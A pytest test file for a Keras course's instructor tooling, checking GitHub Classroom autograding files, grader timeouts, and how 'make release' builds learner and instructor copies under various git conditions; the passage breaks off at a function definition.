"""The instructor's kit: the learner copy holds no solution line but those it ships on purpose, a class is
graded at once with each submission in a sandbox, and GitHub Classroom gets one test per exercise -- all
from the one declaration of the exercises and their points (graders.EXERCISES).
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import errno
import io
import json
import os
import re
import shlex
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from conftest import (
    HOOKS,
    ROOT_ONLY,
    a_clone_another_user_owns,
    as_for_a_learner,
    at_most,
    closed_pipe,
    committed_in_a_new_repository,
    dev_full,
    full_output,
    git_hooks_variables,
    instructors_git_config,
    lose,
    lose_committed,
    output_closed,
    read_csv,
    restore_as_advised,
    run_make,
    write_class,
)

from keras_models.course.exercises.graders import EXERCISES, find, load_graders
from keras_models.course.exercises.skeleton import BEGIN, END, skeleton_of
from keras_models.course.instructor import classroom, grade_class, gradebook, learner_folders, release
from keras_models.course.lessons import LESSONS
from keras_models.twins.alone import held_alone
from keras_models.twins.counted import counted

REPO = Path(__file__).resolve().parents[1]


# --- GitHub Classroom ------------------------------------------------------------------------------------

def test_autograding_json_has_one_test_per_exercise_worth_its_points():
    committed = json.loads((REPO / ".github" / "classroom" / "autograding.json").read_text(encoding="utf-8"))
    assert committed == json.loads(classroom.render()), "regenerate it: .venv/bin/python -m " \
                                                        "keras_models.course.instructor.classroom"
    tests = committed["tests"]
    assert [t["name"].split()[0] for t in tests] == [e.name for e in EXERCISES]
    assert [t["points"] for t in tests] == [e.points for e in EXERCISES] and sum(e.points for e in EXERCISES) == 100
    for test, exercise in zip(tests, EXERCISES, strict=True):
        assert test["run"].endswith(f"--learner . --only {exercise.name}")
        assert test["comparison"] == "included" and test["output"] == "" and test["timeout"] > 0


def test_the_classroom_command_writes_the_committed_file_and_says_it_holds_7_tests_worth_100_points(
        tmp_path, monkeypatch, capsys):
    """`.venv/bin/python -m keras_models.course.instructor.classroom` writes autograding.json as committed here, and
    its one line names the file and counts what the README states: seven exercises, 100 points in all."""
    monkeypatch.setattr(classroom, "REPO", tmp_path)
    assert classroom.main() == 0
    assert capsys.readouterr() == ("wrote .github/classroom/autograding.json: 7 tests, 100 points\n", "")
    written = tmp_path / ".github" / "classroom" / "autograding.json"
    assert written.read_bytes() == (REPO / ".github" / "classroom" / "autograding.json").read_bytes()


def test_the_readme_states_each_exercises_points_as_declared():
    """README's instructors' section says what each exercise is worth ("ex01 10, ex02 15, ..., 100 in all") and the
    exercises table counts them ("Seven graded exercises"): a change of points in EXERCISES must reach both."""
    readme = " ".join((REPO / "README.md").read_text(encoding="utf-8").split())
    stated = re.search(r"`EXERCISES` \(`[^`]+`\): ((?:ex\d\d \d+, )*ex\d\d \d+) points, (\d+) in all", readme)
    assert stated, "README no longer states the exercises' points where this test looks for them"
    worth = [pair.split() for pair in stated[1].split(", ")]
    assert worth == [[e.name, str(e.points)] for e in EXERCISES] and stated[2] == str(sum(e.points for e in EXERCISES))
    assert len(EXERCISES) == 7, "README says \"Seven graded exercises\": say how many there are now (and here)"
    assert "Seven graded exercises in `keras_models/course/exercises/`" in readme


def test_the_classroom_workflow_runs_the_same_tests_worth_the_same_points_and_reports_each():
    """Classroom today runs .github/workflows/classroom.yml: one grader step per exercise, then the reporter,
    which finds each step's result under <ID>_RESULTS and sums the runners it is given."""
    import yaml  # (jupyter's dependency, pinned in constraints.txt)

    job = yaml.safe_load(classroom.workflow())["jobs"]["run-autograding-tests"]
    checkout, *graders, reporter = job["steps"]
    header = yaml.safe_load(classroom.workflow())       # graded on every push; the reporter writes check runs
    assert header["on"] == ["push", "workflow_dispatch", "repository_dispatch"]   # as Classroom's own: run by hand too
    assert header["permissions"]["checks"] == "write"
    assert job["if"] == "github.actor != 'github-classroom[bot]'"  # not on the commit Classroom makes of the template
    assert checkout["uses"].startswith("actions/checkout@")
    assert [step["id"] for step in graders] == [e.name for e in EXERCISES]
    for step, test in zip(graders, classroom.autograding()["tests"], strict=True):
        assert step["uses"].startswith("classroom-resources/autograding-command-grader@")
        assert step["with"] == {"test-name": test["name"], "setup-command": test["setup"], "command": test["run"],
                                "timeout": test["timeout"], "max-score": test["points"]}
    assert reporter["uses"].startswith("classroom-resources/autograding-grading-reporter@")
    assert reporter["with"]["runners"].split(",") == [e.name for e in EXERCISES]
    assert reporter["env"] == {f"{e.name.upper()}_RESULTS": f"${{{{steps.{e.name}.outputs.result}}}}"
                               for e in EXERCISES}


def test_a_timeout_stops_the_classroom_command_itself_not_only_the_shell_that_started_it(tmp_path):
    """On a timeout the grader step sends SIGTERM to the `/bin/sh -c <command>` it started, and no further; Ubuntu's
    sh (dash) runs a command as its child, so grade_class and the submission it graded ran on after the step. Here
    a stand-in for .venv/bin/python that waits: once it runs, SIGTERM to the shell's process must leave nothing."""
    python = tmp_path / ".venv" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.write_text("#!/bin/sh\n: > started\nexec sleep 30\n", encoding="utf-8")
    python.chmod(0o755)
    for test in classroom.autograding()["tests"]:
        (tmp_path / "started").unlink(missing_ok=True)
        shell = subprocess.Popen(["/bin/sh", "-c", test["run"]], cwd=tmp_path, start_new_session=True)
        try:
            for _ in range(500):                                         # at most 5 s for the stand-in to start
                if (tmp_path / "started").exists():
                    break
                time.sleep(0.01)
            shell.terminate()
            assert shell.wait(timeout=5) == -signal.SIGTERM
            with pytest.raises(ProcessLookupError):                      # no process left in its group
                os.killpg(shell.pid, 0)
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(shell.pid, signal.SIGKILL)


# --- make release ----------------------------------------------------------------------------------------

UNTRACKED = ["my_answer_key.py", "submissions/alice/ex01_perceptron_activations.py", "submissions/grades.csv"]


@pytest.fixture(scope="module")
def learner_copy(tmp_path_factory):
    dest = tmp_path_factory.mktemp("release") / "learner"
    assert release.main([str(dest)]) == 0
    return dest


@pytest.fixture(scope="module")
def instructor_copy(tmp_path_factory):
    """(folder, printed output) of the instructor copy, made as on a new machine whose git has no identity
    (no user.name or user.email anywhere), and as from a git hook, with GIT_DIR, GIT_INDEX_FILE and GIT_WORK_TREE
    naming another repository."""
    home, decoy = tmp_path_factory.mktemp("home"), tmp_path_factory.mktemp("decoy")
    hooks_variables = git_hooks_variables(decoy)
    dest = tmp_path_factory.mktemp("release") / "instructor"
    with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stdout(io.StringIO()) as out:
        for name in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL", "EMAIL"):
            patch.delenv(name, raising=False)
        for name, value in {"HOME": home, "XDG_CONFIG_HOME": home, "GIT_CONFIG_GLOBAL": home / "gitconfig",
                            "GIT_CONFIG_NOSYSTEM": "1", **hooks_variables}.items():
            patch.setenv(name, str(value))
        assert release.main([str(dest), "--with-solutions"]) == 0
    decoy_log = subprocess.run(["git", "log"], cwd=decoy, capture_output=True, text=True, check=False)
    assert decoy_log.returncode != 0 and "does not have any commits" in decoy_log.stderr   # untouched
    assert not (decoy / ".git" / "index").exists()                                          # nothing added there
    return dest, out.getvalue()


def copied_files(folder: Path) -> dict[str, bytes]:
    """{relative path: bytes} of every file in a copy, its .git/ aside (notebooks included: their cell ids are
    not drawn at random)."""
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*")
            if path.is_file() and ".git" not in path.relative_to(folder).parts}


def stripped_lines(text: str) -> set[str]:
    return {line.strip() for line in text.splitlines()}


def solution_lines() -> set[str]:
    """The lines a learner writes (inside BEGIN/END SOLUTION) that nothing shipped on purpose holds. Shipped on
    purpose: the project's own library, which the exercises re-derive (the .py files git tracks in scratch/,
    data/ and keras_models/ outside the exercises' folder), README.md, and the given code of the same or a
    later exercise (ex02 hands over ex01's sigmoid). The graders are not among them: a solution line in a
    grader gives the answer away."""
    exercises_folder = Path("keras_models", "course", "exercises")
    public = stripped_lines((REPO / "README.md").read_text(encoding="utf-8"))
    for path in release.project_files():
        if path.suffix == ".py" and path.parts[0] in ("scratch", "data", "keras_models") \
                and not path.is_relative_to(exercises_folder):
            public |= stripped_lines((REPO / path).read_text(encoding="utf-8"))
    given = [stripped_lines(skeleton_of(exercise.solution_path)) for exercise in EXERCISES]
    secret = set()
    for index, exercise in enumerate(EXERCISES):
        handed_over = public.union(*given[index:])
        inside = False
        for line in exercise.solution_path.read_text(encoding="utf-8").splitlines():
            if line.strip() in (BEGIN, END):
                inside = line.strip() == BEGIN
            elif inside and line.strip() and line.strip() not in handed_over:
                secret.add(line.strip())
    return secret


def every_text(folder: Path):
    """(path, text) of every file in the copy; a notebook's text is its cells' sources and outputs."""
    for path in folder.rglob("*"):
        if not path.is_file():
            continue
        if path.suffix == ".ipynb":
            notebook = nbformat.read(path, as_version=4)
            yield path, "\n".join(cell.source + json.dumps(cell.get("outputs", [])) for cell in notebook.cells)
        else:
            yield path, path.read_bytes().decode("utf-8", errors="replace")


def test_no_solution_line_survives_in_the_learner_copy(learner_copy):
    secret = solution_lines()
    assert len(secret) > 50                                        # the check has something to find
    leaks = [f"{path.relative_to(learner_copy)}: {line}" for path, text in every_text(learner_copy)
             for line in {line.strip() for line in text.splitlines()} & secret]
    leaks += [f"{path.relative_to(learner_copy)}: a solution marker" for path, text in every_text(learner_copy)
              if path.stem in {e.stem for e in EXERCISES} and (BEGIN in text or END in text)]
    assert not leaks, "\n".join(leaks[:20])
    assert not (learner_copy / "keras_models" / "course" / "exercises" / "solutions").exists()


def test_the_learner_copy_has_the_exercises_notebooks_and_classroom_but_no_tests(learner_copy):
    exercises = learner_copy / "keras_models" / "course" / "exercises"
    for exercise in EXERCISES:
        skeleton = skeleton_of(exercise.solution_path)
        assert (exercises / f"{exercise.stem}.py").read_text(encoding="utf-8") == skeleton
        assert (exercises / "starters" / f"{exercise.stem}.py").read_text(encoding="utf-8") == skeleton
        assert (exercises / "graders" / f"{exercise.name}.py").is_file()
    notebooks = learner_copy / "keras_models" / "course" / "notebooks"
    assert sorted(p.stem for p in (notebooks / "lessons").glob("*.ipynb")) == sorted(LESSONS)
    assert sorted(p.stem for p in (notebooks / "exercises").glob("*.ipynb")) == sorted(e.stem for e in EXERCISES)
    for path in (notebooks / "exercises").glob("*.ipynb"):     # paired: in make lab, saving one saves the .py too
        formats = nbformat.read(path, as_version=4).metadata.jupytext.formats
        assert formats == "notebooks/exercises//ipynb,exercises//py:percent", path.name
    assert not (notebooks / "solutions").exists() and not (learner_copy / "tests").exists()
    assert not (learner_copy / ".ci").exists()                  # it runs make test, which this copy has not
    for name in ("Makefile", "pyproject.toml", "constraints.txt", "data/breast_cancer.csv", "scratch/network.py"):
        assert (learner_copy / name).is_file(), name
    autograding = learner_copy / ".github" / "classroom" / "autograding.json"
    assert autograding.read_text(encoding="utf-8") == classroom.render()
    workflow = learner_copy / ".github" / "workflows" / "classroom.yml"
    assert workflow.read_text(encoding="utf-8") == classroom.workflow()
    ignored = (learner_copy / ".gitignore").read_text(encoding="utf-8")
    assert "ex[0-9][0-9]" not in ignored and "notebooks" not in ignored.replace("notebooks are tracked", "")
    assert (learner_copy / "README.md").read_text(encoding="utf-8").startswith("> **Learner copy**")
    assert (learner_copy / "README.md").read_bytes().endswith(b"\n\n" + (REPO / "README.md").read_bytes())  # all of it
    committed = subprocess.run(["git", "ls-files", "-z"], cwd=learner_copy, capture_output=True, text=True, check=True)
    assert sorted(filter(None, committed.stdout.split("\0"))) == sorted(copied_files(learner_copy))   # all of it


def test_what_the_learner_note_corrects_is_still_what_the_readme_says():
    """The note on top of the learner copy's README names what the README below it says that is not true there:
    a README reworded without the note would leave the note correcting sentences that are gone."""
    readme = (release.REPO / "README.md").read_text(encoding="utf-8")
    for said in ("git ignores them", "git-ignored", "the second ends with pytest's summary line", "7 solutions)"):
        assert said in readme, said
    for corrected in ("git tracks them", "`make test`'s summary line", "the solutions' notebooks"):
        assert corrected in release.LEARNER_NOTE, corrected


@pytest.mark.parametrize("target", ["test", "test-browser", "lock-check", "mutants"])
def test_the_test_targets_in_the_learner_copy_say_in_one_line_that_it_has_no_tests(learner_copy, target):
    done = run_make(learner_copy, target, timeout=300)
    assert done.returncode == 2
    lines = done.stderr.splitlines()
    assert len(lines) == 2, lines                                 # the one line, then make's own "Error 2"
    message, make_says = lines
    assert message == (f"make {target}: this learner copy has no test suite (it checks the reference solutions, "
                       "which are not included)")
    assert make_says.startswith("make: *** [Makefile:") and make_says.endswith(f"{target}] Error 2"), make_says
    assert not (learner_copy / ".venv").exists()                # said before setting anything up
    note = (learner_copy / "README.md").read_text(encoding="utf-8").split("\n\n")[0]
    assert f"`make {target}`" in note, note                     # and the copy's README says so up front


def test_make_help_in_the_learner_copy_lists_only_what_works_there(learner_copy):
    """The targets that need the tests or the solutions refuse in a learner copy: its make help leaves them out, and
    names them once, instead of offering them."""
    refused = ["test", "test-browser", "lock-check", "mutants", "exercises-solutions", "release"]
    listed = run_make(learner_copy, "help", timeout=60).stdout.splitlines()
    targets = [line.split()[1] for line in listed if line.startswith("  make ")]
    assert "exercises" in targets and "lab" in targets and not set(refused) & set(targets), targets
    assert listed[-1] == f"(a learner copy: {' '.join(refused)} are in your instructor's copy only)"
    everything = run_make(release.REPO, "help", timeout=60).stdout.splitlines()     # here, with tests/: all of them
    assert set(refused) <= {line.split()[1] for line in everything if line.startswith("  make ")}
    assert not everything[-1].startswith("(a learner copy")


def test_the_instructor_copy_has_solutions_tests_and_their_notebooks(instructor_copy):
    dest, out = instructor_copy
    assert f"wrote the instructor copy (with solutions and tests) to {dest}" in out
    notebooks = len(list((dest / "keras_models" / "course" / "notebooks").rglob("*.ipynb")))
    assert notebooks == len(LESSONS) + 2 * len(EXERCISES) and f", {notebooks} notebooks\n" in out
    for exercise in EXERCISES:
        assert (dest / "keras_models/course/exercises/solutions" / f"{exercise.stem}.py").read_bytes() == \
            exercise.solution_path.read_bytes()
        assert (dest / "keras_models/course/notebooks/solutions" / f"{exercise.stem}.ipynb").is_file()
    assert (dest / "tests" / "test_instructor.py").is_file() and (dest / ".ci" / "run").is_file()
    assert not (dest / ".github" / "workflows").exists()      # a push of the private copy would grade its skeletons
    assert (dest / ".github" / "classroom" / "autograding.json").read_text(encoding="utf-8") == classroom.render()
    assert not (dest / "keras_models/course/exercises/starters").exists()    # the learner copy's: it has no solutions
    assert f": {len(copied_files(dest))} files, " in out                    # files, not the folders that hold them


def test_only_the_learner_copy_is_offered_as_the_classroom_template():
    """The instructor copy holds the solutions: a Classroom template made of it would hand them to every learner."""
    learner, instructor = release.next_line(Path("course"), False), release.next_line(Path("key"), True)
    assert "push it as a template repository" in learner
    assert "push it as a template" not in instructor and "keep it private, it holds the solutions" in instructor


def test_the_instructor_copy_is_a_git_repository_where_make_release_makes_the_same_learner_copy(
        instructor_copy, learner_copy, tmp_path, monkeypatch, capsys):
    """A working project: one commit holds what git tracks here (the learner files and notebooks it ignores,
    as here), and `make release` run in it -- which reads git -- makes a learner copy equal to this one's,
    leaving out the files the instructor has not committed there."""
    dest, _ = instructor_copy
    git = {"cwd": dest, "capture_output": True, "text": True, "check": True}
    assert subprocess.run(["git", "log", "--format=%an: %s"], **git).stdout.startswith(
        "make release: Instructor copy, made by make release from ")
    assert len(subprocess.run(["git", "rev-list", "--all"], **git).stdout.split()) == 1
    # "Each copy is a git repository (branch `main`)" (the README): the branch GitHub Classroom's template shows
    assert subprocess.run(["git", "branch", "--show-current"], **git).stdout == "main\n"
    assert subprocess.run(["git", "status", "--porcelain"], **git).stdout == ""          # all of it committed
    for name in UNTRACKED:
        (dest / name).parent.mkdir(parents=True, exist_ok=True)
        (dest / name).write_text("# the instructor's, not the course's\n", encoding="utf-8")
    monkeypatch.setattr(release, "REPO", dest)                      # what `make release` in the copy runs
    again = tmp_path / "learner"
    assert release.main([str(again)]) == 0
    assert capsys.readouterr().out.startswith(
        f"left out 3 files git does not track (commit them to include them): {', '.join(UNTRACKED)}\n")
    assert copied_files(again) == copied_files(learner_copy)


def test_make_release_commits_the_whole_copy_whatever_the_instructors_global_git_config(tmp_path, monkeypatch,
                                                                                         capsys):
    """The copy's commit is make release's, not the instructor's work. With the instructor's global core.hooksPath,
    its hooks ran: --no-verify skips pre-commit and commit-msg, but not prepare-commit-msg or reference-transaction,
    and a refusing one stopped make release. With their global ignores, `git add --all` silently left the notebooks
    and the data out of the commit -- of a template the learners clone. None of it applies: no hook runs, no
    signature is asked for, and only the copy's own .gitignore ignores."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(instructors_git_config(tmp_path)))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    hooks = tmp_path / "hooks"
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b"]
    for name in HOOKS[:4]:                       # each alone refuses a commit: the test has something to find
        alone = tmp_path / name
        subprocess.run(["git", "init", "-q", str(alone)], check=True)
        shutil.copy(hooks / name, alone / name)
        refused = subprocess.run([*git, "-c", f"core.hooksPath={alone}", "-c", "commit.gpgSign=false", "commit", "-q",
                                  "--allow-empty", "-m", "x"], cwd=alone, capture_output=True, text=True, check=False)
        assert refused.returncode != 0 and f"{name}: refused" in refused.stderr, (name, refused)
        (hooks / f"ran-{name}").unlink()
    unsigned = subprocess.run([*git, "-c", "core.hooksPath=/dev/null", "commit", "-q", "--allow-empty", "-m", "x"],
                              cwd=tmp_path / HOOKS[0], capture_output=True, text=True, check=False)
    assert unsigned.returncode != 0 and "gpg failed to sign" in unsigned.stderr, unsigned       # and so does gpg
    dest = tmp_path / "copy"
    assert release.main([str(dest)]) == 0
    assert capsys.readouterr().err == ""
    assert not list(hooks.glob("ran-*"))                          # not even post-commit
    show = {"cwd": dest, "capture_output": True, "text": True, "check": True}
    assert subprocess.run(["git", "log", "--format=%an: %s"], **show).stdout.startswith(
        "make release: Learner copy, made by make release from ")
    committed = sorted(filter(None, subprocess.run(["git", "ls-files", "-z"], **show).stdout.split("\0")))
    assert committed == sorted(copied_files(dest))                # notebooks, data and Classroom's JSON too
    assert {Path(name).suffix for name in committed} >= {".ipynb", ".csv", ".json"}
    assert subprocess.run(["git", "branch", "--show-current"], **show).stdout == "main\n"   # not the instructor's trunk


def test_a_commit_git_refuses_is_one_line_with_gits_reason_and_what_to_remove(tmp_path, monkeypatch, capsys):
    """GIT_COMMITTER_DATE in a form git does not read (for a dated release), under a global config with a setting
    git warns about on every command: git's stderr is the warnings, then the fatal line that says why. The copy is
    written and its .git half made, so the next make release refused DEST as "not empty ... (nothing was written)",
    and the line (exit 2, as for a refused DEST) said why but not what to do: it now says what to remove, and exits
    1 as a copy that stopped half way does; doing what it says, the same command makes the copy."""
    config = tmp_path / "gitconfig"
    config.write_text("[core]\n\tfsyncObjectFiles = true\n", encoding="utf-8")       # deprecated since git 2.36
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_COMMITTER_DATE", "1 September 2027")
    dest = tmp_path / "class copy"
    assert release.main([str(dest)]) == 1
    assert capsys.readouterr() == ("", "error: git could not commit the copy: fatal: invalid date format: 1 September "
                                       f"2027; {dest} holds an unfinished copy: remove it (rm -rf '{dest}'), then "
                                       "make release again\n")
    assert (dest / "Makefile").is_file() and not (dest / ".git" / "refs" / "heads" / "main").exists()
    monkeypatch.delenv("GIT_COMMITTER_DATE")                      # the instructor mends the cause, and removes DEST
    subprocess.run(["rm", "-rf", str(dest)], check=True)
    assert release.main([str(dest)]) == 0
    assert capsys.readouterr().err == ""


def test_a_commit_git_refuses_names_the_line_that_says_why_not_the_advice_after_it(tmp_path):
    """Another git at work in the copy holds its index.lock: git says so on its first line, then six lines of
    advice; the last ("remove the file manually to continue.") named no file."""
    dest = tmp_path / "copy"
    dest.mkdir()
    (dest / "README.md").write_text("read me\n", encoding="utf-8")
    subprocess.run(["git", "init", "-q", str(dest)], check=True)
    (dest / ".git" / "index.lock").touch()                       # as the other git holds it while it adds
    with pytest.raises(release.CommitFailed) as refused:
        release._commit(dest, "learner")
    assert str(refused.value) == (f"git could not commit the copy: fatal: Unable to create "
                                  f"'{dest / '.git' / 'index.lock'}': File exists.")


def files_as_written(folder: Path) -> dict[str, tuple[bytes, int]]:
    """{relative path: (bytes, when last written)} of every file in a folder, its .git/ too."""
    return {path.relative_to(folder).as_posix(): (path.read_bytes(), path.stat().st_mtime_ns)
            for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("other", ["make release", "make release begun", "a program"])
def test_make_release_refuses_a_dest_written_to_after_it_found_it_empty(other, tmp_path, monkeypatch, capsys):
    """Two make release into the same empty DEST at once both found it empty and both copied: then one's commit
    failed on the other's index.lock (the other said "wrote the learner copy"), or one committed while the other
    rewrote its files; a file another program wrote into DEST meanwhile was committed in the copy, unsaid. Here the
    other -- a real make release process, run to its end; one that has just taken DEST (made its .git) and written
    nothing yet; a program that writes a file -- writes after this one found DEST empty and before it writes: this
    one is refused in one line and writes nothing."""
    dest = tmp_path / "class copy"
    dest.mkdir()
    theirs = {}

    def meanwhile(exercises):                        # after the check of DEST, before the copy
        if other == "make release":
            done = subprocess.run([sys.executable, "-m", "keras_models.course.instructor.release", str(dest)],
                                  cwd=REPO, capture_output=True, text=True, timeout=120, check=False)
            assert done.returncode == 0, done.stderr
        elif other == "make release begun":          # its first step, and so far its only one: its .git, made at once
            (dest / ".git").mkdir()
        else:
            (dest / "notes.txt").write_text("the instructor's notes\n", encoding="utf-8")
        theirs.update(files_as_written(dest))
        return load_graders(exercises)

    monkeypatch.setattr(release, "load_graders", meanwhile)
    assert release.main([str(dest)]) == 2
    assert capsys.readouterr() == ("", f"error: DEST={dest} was written to after make release found it empty (another "
                                       "make release into it at once?): choose a new folder (nothing was written)\n")
    assert files_as_written(dest) == theirs                                 # not a file added, removed or rewritten
    if other != "make release":                               # the other's .git is left to it; none of this one's
        assert [path.name for path in dest.iterdir()] == [".git" if other == "make release begun" else "notes.txt"]
    else:                                                                           # the other's copy, committed whole
        assert subprocess.run(["git", "status", "--porcelain"], cwd=dest, capture_output=True, text=True,
                              check=True).stdout == ""


def test_a_release_with_uncommitted_changes_names_them_and_its_commit_says_so(instructor_copy, tmp_path,
                                                                                monkeypatch, capsys):
    """The copy takes what is on disk; a commit message naming only the source's commit would say otherwise."""
    dest, _ = instructor_copy
    makefile = dest / "Makefile"
    committed = makefile.read_bytes()
    monkeypatch.setattr(release, "REPO", dest)
    try:
        makefile.write_bytes(committed + b"# an edit not committed yet\n")
        again = tmp_path / "learner copy"                                 # a space: the Next line quotes it
        assert release.main([str(again)]) == 0
    finally:
        makefile.write_bytes(committed)
    out = capsys.readouterr().out.splitlines()                  # (after the left-out line, if a test left any)
    assert ("copied 1 file with changes not committed here, as they are on disk (commit them so that the copy's "
            "commit names them): Makefile") in out
    assert out[-1].startswith(f"Next: cd '{again}' && make setup")
    assert (again / "Makefile").read_bytes().endswith(b"# an edit not committed yet\n")
    subject = subprocess.run(["git", "log", "--format=%s"], cwd=again, capture_output=True, text=True,
                             check=True).stdout
    assert " with uncommitted changes to Makefile (the files git tracks there, as they were on disk)" in subject


def test_a_release_names_staged_changes_too_and_the_tracked_files_deleted_on_disk(instructor_copy, tmp_path,
                                                                                  monkeypatch, capsys):
    """`git diff HEAD`: an edit already staged (git add) is not committed either. A tracked file deleted on disk (or
    with git rm, or git mv) cannot be in the copy, which takes the files as they are on disk: it was left out unsaid,
    and the copy's commit named only the edits; both now name it."""
    dest, _ = instructor_copy
    makefile, constraints, attributes = dest / "Makefile", dest / "constraints.txt", dest / ".gitattributes"
    committed = {path: path.read_bytes() for path in (makefile, constraints, attributes)}
    copy = tmp_path / "copy"
    monkeypatch.setattr(release, "REPO", dest)
    try:
        makefile.write_bytes(committed[makefile] + b"# an edit staged, not committed\n")
        subprocess.run(["git", "add", "Makefile"], cwd=dest, check=True)
        constraints.unlink()                                             # deleted on disk only
        subprocess.run(["git", "mv", ".gitattributes", "attributes.txt"], cwd=dest, check=True)  # a staged deletion
        assert release.main([str(copy)]) == 0
    finally:
        subprocess.run(["git", "reset", "-q"], cwd=dest, check=True)
        (dest / "attributes.txt").unlink(missing_ok=True)
        for path, text in committed.items():
            path.write_bytes(text)
    assert not (copy / "constraints.txt").exists() and not (copy / ".gitattributes").exists()
    assert (copy / "pyproject.toml").is_file()
    out = capsys.readouterr().out.splitlines()
    assert ("copied 2 files with changes not committed here, as they are on disk (commit them so that the copy's "
            "commit names them): Makefile, attributes.txt") in out
    assert ("left out 2 tracked files deleted here, not committed (restore them to include them, or commit their "
            "deletion): .gitattributes, constraints.txt") in out
    message = subprocess.run(["git", "log", "--format=%B"], cwd=copy, capture_output=True, text=True,
                             check=True).stdout
    # The copy's first commit is its record of what it was made from: every file, not the first three "and 1 more"
    assert message.split("\n", 1)[0].endswith(" with uncommitted changes to 4 files (the files git tracks there, as "
                                               "they were on disk)")
    assert ("\n\nChanged here and not committed, copied as they were on disk:\n    Makefile\n    attributes.txt\n"
            "Deleted here and not committed, left out:\n    .gitattributes\n    constraints.txt\n") in message
    assert release.uncommitted_line([]) == "" and release.deleted_line([]) == ""
    assert release.deleted_line([Path("a.py")]) == ("left out 1 tracked file deleted here, not committed (restore it "
                                                    "to include it, or commit its deletion): a.py")


def test_a_learner_copy_names_only_the_uncommitted_changes_it_holds_and_the_solutions_it_cut_from(
        instructor_copy, tmp_path, monkeypatch, capsys):
    """The learner copy leaves tests/, .ci/ and the solutions out, edited or not: it said it had copied an edit to a
    test and to a solution, named a test deleted here as left out ("restore it to include it", which would not), and
    its commit named all three. It names the edits it holds, and a solution its exercise was cut from as it is on
    disk (an edit to its given code reaches the learner); an edit or a deletion in what it leaves out, not at all."""
    dest, _ = instructor_copy
    solution = release.SOLUTIONS / "ex01_perceptron_activations.py"
    edited, gone = [dest / "Makefile", dest / "tests" / "test_layout.py", dest / solution], dest / ".ci" / "run"
    committed = {path: (path.read_bytes(), path.stat().st_mode) for path in (*edited, gone)}
    copy = tmp_path / "copy"
    monkeypatch.setattr(release, "REPO", dest)
    try:
        for path in edited:
            path.write_bytes(committed[path][0] + b"\n# an edit not committed yet\n")
        gone.unlink()
        assert release.main([str(copy)]) == 0
    finally:
        for path, (text, mode) in committed.items():
            path.write_bytes(text)
            path.chmod(mode)
    out = capsys.readouterr().out.splitlines()               # (after the left-out line, if a test left any)
    assert ("copied 1 file with changes not committed here, as they are on disk (commit them so that the copy's "
            "commit names them): Makefile") in out
    assert ("cut the exercises from 1 solution with changes not committed here, as it is on disk (commit it so that "
            f"the copy's commit names it): {solution.as_posix()}") in out
    assert not [line for line in out if "tests/" in line or ".ci/" in line or "deleted" in line]
    message = subprocess.run(["git", "log", "--format=%B"], cwd=copy, capture_output=True, text=True,
                             check=True).stdout
    assert "Makefile" in message and solution.as_posix() in message
    assert "tests/" not in message and ".ci/" not in message


def test_a_learner_copy_cuts_its_exercises_from_the_solutions_of_the_repository_it_is_made_from(
        instructor_copy, tmp_path, monkeypatch, capsys):
    """The exercises were cut from the solutions beside release.py's own module, not from the repository the copy is
    made of (release.REPO): an edit to a solution's given code there said "cut the exercises from 1 solution with
    changes ..." and the learner received the unedited one. Here an edit outside the solution's blocks reaches the
    learner's file and its starter; one inside a block, the part the learner writes, does not."""
    dest, _ = instructor_copy
    exercise = EXERCISES[0]
    solution = dest / release.SOLUTIONS / f"{exercise.stem}.py"
    committed = solution.read_bytes()
    text = committed.decode("utf-8")
    begin = text.index(BEGIN)
    indent = text[text.rindex("\n", 0, begin) + 1:begin]
    after_begin = text.index("\n", begin) + 1
    edited = (text[:after_begin] + f"{indent}answer_edited_here = 42\n" + text[after_begin:]
              + "\n# given code edited, not committed\n")
    copy = tmp_path / "copy"
    monkeypatch.setattr(release, "REPO", dest)
    try:
        solution.write_text(edited, encoding="utf-8")
        assert release.main([str(copy)]) == 0
    finally:
        solution.write_bytes(committed)
    capsys.readouterr()
    exercises = copy / "keras_models" / "course" / "exercises"
    for learner in (exercises / f"{exercise.stem}.py", exercises / "starters" / f"{exercise.stem}.py"):
        given = learner.read_text(encoding="utf-8")
        assert given.endswith("\n# given code edited, not committed\n"), learner
        assert "answer_edited_here" not in given and BEGIN not in given, learner


@pytest.mark.parametrize("with_solutions", [False, True], ids=["learner", "instructor"])
@pytest.mark.parametrize("how", ["deleted", "git rm", "staged damaged, then deleted"],
                         ids=["on-disk", "git-rm", "staged-damaged-then-deleted"])
def test_make_release_with_a_solution_deleted_here_refuses_in_one_line_and_writes_nothing(
        how, with_solutions, instructor_copy, tmp_path, monkeypatch, capsys):
    """Each copy cuts the learner's files from the solutions: with one deleted and not committed, make release copied
    half the project, then stopped at "error: <clone>/.../ex03_keras_basics.py: No such file or directory; DEST holds
    an unfinished copy: remove it". It cannot leave the solution out as it leaves out another deleted file: it
    refuses before writing anything, in one line naming the file and the git command that brings it back."""
    dest, _ = instructor_copy
    path = (release.SOLUTIONS / "ex03_keras_basics.py").as_posix()
    committed = (dest / path).read_bytes()
    copy = tmp_path / "copy"
    monkeypatch.setattr(release, "REPO", dest)
    try:
        lose(dest, dest / path, how)          # the index may hold the damage: a plain `git checkout --` brings it back
        assert release.main([str(copy)] + ["--with-solutions"] * with_solutions) == 2
        out, err = capsys.readouterr()
        assert (out, err) == ("", f"error: the solution {path} is deleted here, not committed, and make release cuts "
                                  f"ex03's exercise from it: restore it with `git checkout HEAD -- {path}` (nothing "
                                  "was written)\n")
        assert not copy.exists()
        restore_as_advised(dest, err, dest / path, committed)                               # the advice, as given
    finally:
        subprocess.run(["git", "reset", "-q"], cwd=dest, check=True)
        (dest / path).write_bytes(committed)


def a_repository_of_the_solutions(folder: Path, change) -> Path:
